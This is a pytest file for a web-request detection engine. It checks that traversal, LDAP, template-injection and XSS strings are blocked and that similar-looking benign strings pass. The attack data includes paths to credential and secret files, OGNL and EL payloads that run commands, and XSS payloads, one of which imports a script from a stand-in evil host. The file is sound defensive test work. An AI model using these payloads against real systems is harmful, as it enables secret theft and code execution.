"""Unit: traversal, LDAP, template and XSS shapes still missed after session 6's first round (the fresh11 "Left"
list): absolute paths to files worth stealing, a file name cut by a NUL, filter-syntax fragments and wildcards in
account-name fields, EL reflection without delimiters, ``{% debug %}``, quoted-number probes, handlers glued to a
tag name, parenthesised sinks and JavaScript-escaped script URLs. Each case goes through the whole engine (decoders,
prefilter, analysers) with other values than the corpus uses; the benign values have the same look."""

from __future__ import annotations

import pytest

from bastion.detection import Context, Engine

BODY = Context("body", "comment")
QUERY = Context("query", "q")
FILE = Context("body", "path")


def _octal(text: str) -> str:
    return "".join(f"\\{ord(c):03o}" for c in text)


ATTACKS: dict[str, tuple[str, Context, str]] = {
    # files worth stealing, named by an absolute path outside the path location
    "shell_history_in_a_home": ("/home/deploy/.zsh_history", QUERY, "traversal"),
    "client_history_under_tilde": ("~/.psql_history", BODY, "traversal"),
    "history_with_a_shell_variable": ("/Users/${LOGNAME}/.node_repl_history", QUERY, "traversal"),
    "git_credentials_file": ("/home/ci/.git-credentials", FILE, "traversal"),
    "kube_config_file": ("~/.kube/config", BODY, "traversal"),
    "postgres_password_file": ("/var/lib/postgresql/.pgpass", QUERY, "traversal"),
    "container_secret_mount": ("/run/secrets/postgres_password", FILE, "traversal"),
    "projected_token_mount": ("/var/run/secrets/eks.amazonaws.com/serviceaccount/token", QUERY, "traversal"),
    "locate_database": ("/var/lib/plocate/plocate.db", QUERY, "traversal"),
    "windows_answer_file": ("D:/deploy/Autounattend.xml", QUERY, "traversal"),
    "sysprep_answer_file": ("c:\\sysprep\\sysprep.inf", BODY, "traversal"),
    "web_server_access_log": ("/opt/lampp/logs/access_log", QUERY, "traversal"),
    "web_server_error_log_on_windows": ("C:\\xampp\\apache\\logs\\error.log", BODY, "traversal"),
    "rotated_ssl_error_log": ("/srv/www/logs/ssl_error_log.1", FILE, "traversal"),
    "tomcat_users_file": ("/opt/tomcat9/conf/tomcat-users.xml", QUERY, "traversal"),
    "wordpress_config_under_docroot": ("/srv/blog/wp-config.php", BODY, "traversal"),
    "wordpress_config_alone": ("wp-config.php", QUERY, "traversal"),
    "php_session_file": ("/var/lib/php/sessions/sess_0a1b2c3d4e5f", QUERY, "traversal"),
    "cron_table": ("/var/spool/cron/crontabs/www-data", FILE, "traversal"),
    "mail_spool": ("/var/mail/www-data", QUERY, "traversal"),
    "nul_after_a_remote_include": ("https://files.example.net/inc.txt%00", QUERY, "traversal"),
    "double_encoded_nul_after_name": ("invoice.php%2500.pdf", BODY, "traversal"),
    "escaped_nul_after_name": ("template.tpl\\x00.html", BODY, "traversal"),
    # LDAP filter syntax alone, and a wildcard in a field that holds an account name
    "wildcard_then_ampersand": ("*&", QUERY, "ldapi"),
    "wildcard_then_spaced_pipe": ("* |", BODY, "ldapi"),
    "negation_of_wildcard": ("!(*", QUERY, "ldapi"),
    "wildcard_in_username": ("svc*", Context("body", "username"), "ldapi"),
    "wildcard_in_user_name": ("*", Context("query", "user_name"), "ldapi"),
    "wildcard_in_sam_account_name": ("adm*", Context("form", "samaccountname"), "ldapi"),
    # template and expression-language reflection without the usual shapes
    "el_empty_string_get_class": ('"".getClass().forName("java.lang.ProcessBuilder")', QUERY, "ssti"),
    "el_empty_string_class_loader": ("''.class.getClassLoader()", BODY, "ssti"),
    "ognl_forname_runtime": ("@x.forName('java.lang.Runtime').getRuntime().exec('uname')", BODY, "ssti"),
    "freemarker_new_instance_called": ("${factory.newInstance(cfg)('uname -a')}", QUERY, "ssti"),
    "el_declared_constructors": ("${x.getDeclaredConstructors()[0]}", BODY, "ssti"),
    "jinja_debug_with_trim_markers": ("<div>{%- debug -%}</div>", BODY, "ssti"),
    "quoted_number_in_braces": ("abc{{'31337'}}xyz", QUERY, "ssti"),
    "quoted_number_in_hash_braces": ('#{"808"}', BODY, "ssti"),
    "ognl_static_method_call": ("@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime())", BODY,
                                "ssti"),
    "ognl_member_access_unlocked": ("(#_memberAccess['allowStaticMethodAccess']=true)", QUERY, "ssti"),
    "ognl_default_member_access": ("%{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}", BODY, "ssti"),
    "freemarker_special_variable": ("${.locals}", QUERY, "ssti"),
    # XSS in a JavaScript context, or spelled so a JavaScript string reads it as script
    "handler_glued_to_tag_name": ("<detailsontoggle=confirm(document.cookie)>", QUERY, "xss"),
    "parenthesised_sink_after_operator": ("1*(prompt)(origin)//", QUERY, "xss"),
    "parenthesised_sink_with_template_call": ("x|(alert)`1`", BODY, "xss"),
    "sink_made_error_handler_then_thrown": ("{onerror=confirm}throw 7", QUERY, "xss"),
    "throw_then_error_handler": ("throw onerror=prompt,'x'", BODY, "xss"),
    "sink_held_in_a_variable": ("p=prompt;p(document.domain)", QUERY, "xss"),
    "sink_as_a_callback": ("[document.cookie].forEach(alert)", BODY, "xss"),
    "operand_operator_sink_call": ("7;confirm(7)//", QUERY, "xss"),
    "tagged_template_timer": ("setInterval`prompt\\x28document.domain\\x29`", BODY, "xss"),
    "octal_angle_brackets": ("\\74script\\76confirm(9)\\74/script\\76", QUERY, "xss"),
    "sink_call_as_tagged_template": ("prompt.call`1`", QUERY, "xss"),
    "function_constructor_from_an_object": ("({}).constructor.constructor('return this')().print()", BODY, "xss"),
    "name_spelled_in_base_36": ("eval(1558153217..toString(36))(1)", QUERY, "xss"),
    "sink_applied_through_reflect": ("Reflect.apply(confirm,window,[1])", BODY, "xss"),
    "remote_module_import": ("import('https://cdn.evil.example/m.js')", QUERY, "xss"),
    "document_through_window_brackets": ("self['document']['domain']", BODY, "xss"),
    "octal_escaped_script_url": (_octal("javascript:") + "prompt(8)", QUERY, "xss"),
    "needless_backslashes_in_script_url": ("j\\ava\\s\\cri\\pt:\\pro\\mpt(1)", BODY, "xss"),
}


@pytest.mark.parametrize(("name", "value", "ctx", "attack"), [(k, *v) for k, v in ATTACKS.items()],
                         ids=ATTACKS.keys())
def test_leftover_shape_is_blocked(engine: Engine, name: str, value: str, ctx: Context, attack: str) -> None:
    found = engine.inspect(value, ctx)
    assert found is not None, value
    assert found.rule.attack == attack


BENIGN: dict[str, tuple[str, Context]] = {
    # file paths in file fields, prose about logs and history, URLs to text files
    "home_directory_file": ("/home/alice/projects/report.pdf", FILE),
    "app_state_upload": ("/var/lib/app/uploads/2025/01/scan.png", FILE),
    "runtime_socket": ("/run/user/1000/app.sock", FILE),
    "windows_documents": ("C:\\Users\\bob\\Desktop\\notes.txt", FILE),
    "windows_short_dirs": ("C:\\a\\b\\c\\setup.exe", FILE),
    "docs_history_page": ("/docs/history.md", FILE),
    "editor_local_history": ("/home/alice/project/.history/main_20250101.py", FILE),
    "c_string_with_nul": ('char name[] = "config.ini\\0";', BODY),
    "prose_about_logs": ("Check the error log and the access log first.", BODY),
    "php_error_log_call": ("error_log('payment failed: ' . $id);", BODY),
    "unattended_upgrades": ("The unattended upgrade finished at 03:00", BODY),
    "history_in_prose": ("see the .bash_history notes in the wiki", BODY),
    "public_text_file_url": ("https://www.example.org/robots.txt", QUERY),
    "percentages": ("Save 3.5% today, 10%0 off nothing", BODY),
    "spanish_sentence": ("El registro de errores está en la carpeta de la aplicación.", BODY),
    "wordpress_sample_config": ("wp-config-sample.php", FILE),
    "settings_file": ("/var/www/app/config/settings.php", FILE),
    "session_prose": ("sess_timeout is 30 minutes", BODY),
    # wildcards and operators where they are ordinary
    "search_wildcard": ("jo*", QUERY),
    "everything_wildcard": ("*", QUERY),
    "double_star": ("**", BODY),
    "media_range": ("*/*", Context("header", "accept")),
    "footnote_mark": ("Total*", BODY),
    "markdown_emphasis_and_pipe": ("*bold* | plain", BODY),
    "arithmetic_in_prose": ("a * b | c", BODY),
    "trailing_wildcard_in_a_note": ("admin*", BODY),
    "plain_username": ("o'brien", Context("body", "username")),
    "user_search_is_not_an_account_name": ("adm*", Context("query", "user")),
    # Java and template code that is not reflection, templates a user may write
    "jdbc_driver_by_name": ('Class.forName("org.postgresql.Driver");', BODY),
    "class_literal": ("String.class.getSimpleName()", BODY),
    "new_instance_in_code": ("Object o = cls.getDeclaredConstructor().newInstance();", BODY),
    "if_on_a_debug_variable": ("{% if user.debug %}on{% endif %}", BODY),
    "string_literal_in_template": ("{{ 'Hello' }} {{ name }}", BODY),
    "number_in_template": ("{{ 42 }} items", BODY),
    "debug_in_prose": ("Enable debug logging for {{ service }}", BODY),
    "empty_quotes_in_prose": ("He wrote ''. Class dismissed.", BODY),
    "fediverse_handle": ("@alice@mastodon.social", BODY),
    "fediverse_handle_with_dot": ("cc @John.Doe@example.social", BODY),
    "email_with_dots": ("John.Doe@example.com", QUERY),
    "ruby_format_string": ("Hello %{name}, you have %{count} messages", BODY),
    "js_template_member": ("const s = `${obj.name}`;", BODY),
    # JavaScript-looking prose and escapes that are not script
    "parentheticals": ("Please (confirm) (by Friday) the order", BODY),
    "algebra": ("-(a)(b) = -ab", BODY),
    "tag_then_word": ("the <b>onload</b> event fires once", BODY),
    "regex_with_escapes": ("^\\(\\d{3}\\) \\d{3}-\\d{4}$", BODY),
    "escaped_newlines_in_code": ('printf("%s\\n\\t", name);', BODY),
    "callback_with_a_constructor": ("[1,2].map(Number)", BODY),
    "error_handler_in_prose": ("Use img.onerror = fallback and never throw", BODY),
    "variable_named_like_a_sink": ("f = confirm; f is a function", BODY),
    "numbered_step": ("Step 1; alert the team (by phone)", BODY),
    "reply_with_confirm": ("Yes, confirm (by e-mail)", BODY),
    "bullet_with_alert": ("- Alert (high) for disk usage", BODY),
    "relative_module_import": ("import('./chart.js').then(m => m.draw())", BODY),
    "number_formatting": ("(255).toString(16) and n.toString(36)", BODY),
    "constructor_name": ("obj.constructor.name", BODY),
    "window_document_title": ("window['document'].title", BODY),
    "octal_file_mode": ("chmod \\644 is not \\755", BODY),
}


@pytest.mark.parametrize(("name", "value", "ctx"), [(k, *v) for k, v in BENIGN.items()], ids=BENIGN.keys())
def test_same_shape_benign_passes(engine: Engine, name: str, value: str, ctx: Context) -> None:
    assert engine.inspect(value, ctx) is None, value
